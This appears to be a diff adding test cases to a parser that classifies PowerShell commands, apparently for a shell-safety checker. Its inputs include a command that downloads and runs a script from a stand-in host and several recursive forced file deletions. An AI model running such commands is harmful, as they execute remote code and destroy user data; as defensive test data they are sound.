@@ -27,6 +27,10 @@ def power(text: str) -> ShellAction:
     ("iex (iwr https://a.example/x.ps1)", ["invoke-expression H:a.example", "invoke-expression ! <download"]),
     ("Get-ChildItem -Recurse src; Write-Output 'Remove-Item C:\\'", ["get-childitem", "write-output"]),
     ("cmd /c del ~/x", ["remove-item D:~/x"]),
+    ("Get-ChildItem ~/x -Recurse | Remove-Item -Force", ["get-childitem", "remove-item D:~/x/*"]),
+    ("gci *.log | ri", ["get-childitem", "remove-item D:./*.log"]),
+    ("gci ~/x -Filter *.log | ri", ["get-childitem", "remove-item"]),
+    ("gci ~/x; ri", ["get-childitem", "remove-item"]),
     ("$x = 1", ["1"]),
     ("", []),
 ])
